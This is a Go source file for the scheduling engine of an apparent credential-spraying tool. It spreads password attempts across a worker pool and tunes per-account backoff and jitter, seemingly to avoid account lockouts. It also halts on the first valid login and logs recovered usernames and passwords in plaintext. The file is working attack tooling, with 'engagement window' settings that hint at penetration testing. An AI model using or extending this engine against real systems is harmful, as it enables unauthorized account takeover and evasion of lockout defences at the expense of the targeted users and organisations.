// Package engine drives a credential spraying run: it distributes attempts
// across a bounded worker pool, enforces per-account backoff thresholds,
// records every outcome through the attempt store before the next scheduling
// decision, and isolates per-attempt failures from the run's control flow.
package engine

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"golang.org/x/time/rate"

	"sprayer/internal/eventbus"
	"sprayer/internal/router"
	"sprayer/internal/store"
	logx "sprayer/pkg/logx"
)

const commitTimeout = 15 * time.Second

type Engine struct {
	cfg     Config
	store   store.Store
	log     logx.Logger
	bus     eventbus.Bus
	limiter *rate.Limiter

	feed chan []store.Pair
}

// New validates the run configuration and builds an engine. All validation
// happens here; by the time Run is called no attempt can fail on config.
func New(cfg Config, st store.Store, log logx.Logger, bus eventbus.Bus) (*Engine, error) {
	if cfg.Callback == nil {
		return nil, ErrNoCallback
	}
	if st == nil {
		return nil, ErrNoStore
	}
	if cfg.Workers < 1 {
		return nil, ErrBadWorkers
	}
	if cfg.MaxAuthTries < 1 {
		return nil, ErrBadAuthTries
	}
	if cfg.DrainGrace <= 0 {
		cfg.DrainGrace = 30 * time.Second
	}
	if log.IsZero() {
		log = logx.Nop()
	}
	if bus == nil {
		bus = eventbus.New()
	}

	var limiter *rate.Limiter
	if cfg.GlobalRatePerSec > 0 {
		burst := int(cfg.GlobalRatePerSec)
		if burst < 1 {
			burst = 1
		}
		limiter = rate.NewLimiter(rate.Limit(cfg.GlobalRatePerSec), burst)
	}

	return &Engine{
		cfg:     cfg,
		store:   st,
		log:     log,
		bus:     bus,
		limiter: limiter,
		feed:    make(chan []store.Pair, 4),
	}, nil
}

// Feed imports additional pairs into a live run. Non-blocking; returns
// ErrFeedBacklog when the import buffer is full.
func (e *Engine) Feed(pairs []store.Pair) error {
	if len(pairs) == 0 {
		return nil
	}
	select {
	case e.feed <- pairs:
		return nil
	default:
		return ErrFeedBacklog
	}
}

// Run consumes the candidate pairs until all reach a terminal status, the
// first success lands (StopOnValid), an exception handler aborts, or ctx is
// cancelled. Cancellation is cooperative: dispatch stops, in-flight attempts
// drain within DrainGrace, and every completed outcome is committed before
// Run returns.
func (e *Engine) Run(ctx context.Context, pairs []store.Pair) (Summary, error) {
	start := time.Now()
	var sum Summary

	pending, err := e.store.LoadPending(ctx, pairs)
	if err != nil {
		return sum, fmt.Errorf("load pending: %w", err)
	}
	skipped := len(pairs) - len(pending)
	e.log.Info("run started",
		logx.Int("workers", e.cfg.Workers),
		logx.Int("pending", len(pending)),
		logx.Int("already_terminal", skipped),
		logx.Int("max_auth_tries", e.cfg.MaxAuthTries),
		logx.Bool("stop_on_valid", e.cfg.StopOnValid),
		logx.String("attempt_jitter", e.cfg.AttemptJitter.String()),
		logx.String("threshold_jitter", e.cfg.ThresholdJitter.String()),
	)

	accts := newAccountSet(e.cfg.MaxAuthTries)
	for _, p := range pending {
		accts.add(p)
	}

	workCh := make(chan store.Pair)
	results := make(chan attemptResult, e.cfg.Workers)

	var wg sync.WaitGroup
	for i := 0; i < e.cfg.Workers; i++ {
		wg.Add(1)
		go e.worker(ctx, workCh, results, &wg)
	}

	var (
		inFlight int
		stopping bool
		runErr   error
	)

	stop := func(reason error) {
		if !stopping {
			stopping = true
			runErr = reason
		}
	}

	routeFailure := func(cat router.Category, p store.Pair, cause error) {
		rc := router.Context{
			Pair:      p,
			Err:       cause,
			Attempted: sum.Attempted,
			Successes: sum.Successes,
			Failures:  sum.Failures,
			Errored:   sum.Errored,
		}
		if e.cfg.Router.Route(cat, rc) == router.Abort {
			e.log.Warn("exception handler requested abort",
				logx.String("category", string(cat)),
				logx.Err(cause),
			)
			e.bus.Publish(eventbus.Event{Type: "run.aborted", Data: AbortEvent{
				Category: string(cat),
				Reason:   cause.Error(),
			}})
			stop(fmt.Errorf("%w: %s: %v", ErrAborted, cat, cause))
		}
	}

	handle := func(r attemptResult) {
		inFlight--
		now := time.Now()

		// Commit-before-reschedule: the outcome is durable before any further
		// scheduling decision for this account. The commit context is
		// detached from ctx so cancellation never drops a finished outcome.
		cctx, cancel := context.WithTimeout(context.Background(), commitTimeout)
		err := e.store.Commit(cctx, r.pair, r.outcome)
		cancel()
		if err != nil {
			// Store retries are exhausted: requeue the attempt, don't lose it.
			rctx, rcancel := context.WithTimeout(context.Background(), commitTimeout)
			_ = e.store.Release(rctx, r.pair)
			rcancel()
			accts.abandon(r.pair.Username)
			accts.requeue(r.pair)
			sum.Requeued++
			e.log.Error("commit failed, attempt requeued",
				logx.String("username", r.pair.Username),
				logx.Err(err),
			)
			routeFailure(router.CategoryStore, r.pair, err)
			return
		}

		sum.Attempted++
		dur := r.finished.Sub(r.started)
		ev := AttemptEvent{Username: r.pair.Username, Password: r.pair.Password, Outcome: r.outcome, Duration: dur}

		switch r.outcome {
		case store.OutcomeSuccess:
			sum.Successes++
			sum.Valid = append(sum.Valid, r.pair)
			e.log.Info("valid credentials recovered",
				logx.String("username", r.pair.Username),
				logx.String("password", r.pair.Password),
			)
			e.bus.Publish(eventbus.Event{Type: "credential.valid", Data: ev})
			if e.cfg.StopOnValid {
				e.log.Info("stop_on_valid: halting new dispatch", logx.Int("in_flight", inFlight))
				stop(nil)
			}
		case store.OutcomeFailure:
			sum.Failures++
			e.log.Debug("authentication failed",
				logx.String("username", r.pair.Username),
				logx.Duration("dur", dur),
			)
		default:
			sum.Errored++
			ev.Error = r.err.Error()
			e.log.Warn("attempt errored",
				logx.String("username", r.pair.Username),
				logx.Err(r.err),
			)
			routeFailure(router.Classify(r.err), r.pair, r.err)
		}
		e.bus.Publish(eventbus.Event{Type: "attempt.finished", Data: ev})

		if entered, until := accts.onComplete(r.pair.Username, now, e.cfg.ThresholdJitter); entered {
			e.log.Info("account entering backoff",
				logx.String("username", r.pair.Username),
				logx.Time("until", until),
				logx.Duration("min_window", e.cfg.ThresholdJitter.Min()),
			)
			e.bus.Publish(eventbus.Event{Type: "backoff.entered", Data: BackoffEvent{
				Username: r.pair.Username,
				Until:    until,
			}})
		}
	}

	drainDeadline := time.Time{}

sched:
	for {
		// Live-fed pairs join the pending set first.
		select {
		case ps := <-e.feed:
			e.absorb(ctx, accts, ps)
			continue
		default:
		}

		// Commit any completed work before the next scheduling decision.
		for {
			select {
			case r := <-results:
				handle(r)
				continue
			default:
			}
			break
		}

		now := time.Now()
		for _, u := range accts.clearExpired(now) {
			e.log.Debug("account backoff cleared", logx.String("username", u))
			e.bus.Publish(eventbus.Event{Type: "backoff.cleared", Data: BackoffEvent{Username: u}})
		}

		if ctx.Err() != nil && !stopping {
			e.log.Warn("cancellation requested, draining in-flight attempts",
				logx.Int("in_flight", inFlight),
				logx.Duration("grace", e.cfg.DrainGrace),
			)
			stop(ctx.Err())
		}

		if stopping {
			if inFlight == 0 {
				break
			}
			if drainDeadline.IsZero() {
				drainDeadline = time.Now().Add(e.cfg.DrainGrace)
			}
			tmr := time.NewTimer(time.Until(drainDeadline))
			select {
			case r := <-results:
				if !tmr.Stop() {
					<-tmr.C
				}
				handle(r)
			case <-tmr.C:
				e.log.Warn("drain grace expired, abandoning in-flight attempts",
					logx.Int("abandoned", inFlight),
				)
				break sched
			}
			continue
		}

		if accts.pendingCount() == 0 && inFlight == 0 {
			if !e.cfg.Linger {
				break // exhausted
			}
			e.sleepUntil(ctx, accts, now.Add(time.Second))
			continue
		}

		var (
			p    store.Pair
			have bool
		)
		if e.cfg.Window.Open(now) {
			p, have = accts.next(now)
		}

		if !have {
			// Everything dispatchable is in flight, backing off, or the
			// engagement window is closed.
			if inFlight > 0 {
				select {
				case r := <-results:
					handle(r)
				case <-ctx.Done():
				}
				continue
			}
			wake := accts.earliestWake(now)
			if !e.cfg.Window.Open(now) {
				if next := e.cfg.Window.NextOpen(now); wake.IsZero() || next.Before(wake) {
					wake = next
				}
			}
			if wake.IsZero() {
				// No timed wake pending; only a live feed can unblock us.
				wake = now.Add(time.Second)
			}
			e.sleepUntil(ctx, accts, wake)
			continue
		}

		// Claim before dispatch: the store is the duplicate-dispatch boundary.
		if err := e.store.Reserve(ctx, p); err != nil {
			accts.abandon(p.Username)
			if errors.Is(err, store.ErrAlreadyClaimed) {
				e.log.Debug("pair claimed elsewhere, skipping",
					logx.String("username", p.Username),
				)
				continue
			}
			accts.requeue(p)
			sum.Requeued++
			e.log.Error("reserve failed, attempt requeued",
				logx.String("username", p.Username),
				logx.Err(err),
			)
			routeFailure(router.CategoryStore, p, err)
			continue
		}

		inFlight++
		e.log.Debug("attempt dispatched",
			logx.String("username", p.Username),
			logx.Int("in_flight", inFlight),
		)
		e.bus.Publish(eventbus.Event{Type: "attempt.started", Data: AttemptEvent{
			Username: p.Username,
			Password: p.Password,
		}})

		// Hand the pair to the pool without going deaf to completions.
	send:
		for {
			select {
			case workCh <- p:
				break send
			case r := <-results:
				handle(r)
				if stopping {
					// The run halted while this dispatch waited for a worker;
					// give the claim back instead of starting new work.
					rctx, rcancel := context.WithTimeout(context.Background(), commitTimeout)
					_ = e.store.Release(rctx, p)
					rcancel()
					accts.abandon(p.Username)
					accts.requeue(p)
					inFlight--
					break send
				}
			case <-ctx.Done():
				rctx, rcancel := context.WithTimeout(context.Background(), commitTimeout)
				_ = e.store.Release(rctx, p)
				rcancel()
				accts.abandon(p.Username)
				accts.requeue(p)
				inFlight--
				break send
			}
		}
	}

	close(workCh)
	// Workers may still sit in a slow callback after an abandoned drain; wait
	// in the background so Run's return stays bounded.
	finished := make(chan struct{})
	go func() {
		wg.Wait()
		close(finished)
	}()
	select {
	case <-finished:
	case <-time.After(e.cfg.DrainGrace):
		e.log.Warn("worker pool did not settle within grace period")
	}

	sum.Elapsed = time.Since(start)
	e.log.Info("run finished",
		logx.Int("attempted", sum.Attempted),
		logx.Int("successes", sum.Successes),
		logx.Int("failures", sum.Failures),
		logx.Int("errored", sum.Errored),
		logx.Int("requeued", sum.Requeued),
		logx.Duration("elapsed", sum.Elapsed),
	)
	return sum, runErr
}

// sleepUntil blocks until wake, cancellation, or a live feed arrives.
func (e *Engine) sleepUntil(ctx context.Context, accts *accountSet, wake time.Time) {
	d := time.Until(wake)
	if d <= 0 {
		return
	}
	e.log.Debug("scheduler sleeping", logx.Duration("for", d))
	tmr := time.NewTimer(d)
	defer func() {
		if !tmr.Stop() {
			select {
			case <-tmr.C:
			default:
			}
		}
	}()
	select {
	case <-ctx.Done():
	case ps := <-e.feed:
		e.absorb(ctx, accts, ps)
	case <-tmr.C:
	}
}

// absorb registers live-fed pairs, dropping any already terminal in the store.
func (e *Engine) absorb(ctx context.Context, accts *accountSet, ps []store.Pair) {
	pending, err := e.store.LoadPending(ctx, ps)
	if err != nil {
		e.log.Error("live import failed", logx.Int("pairs", len(ps)), logx.Err(err))
		return
	}
	for _, p := range pending {
		accts.add(p)
	}
	e.log.Info("live pairs imported",
		logx.Int("offered", len(ps)),
		logx.Int("accepted", len(pending)),
	)
}
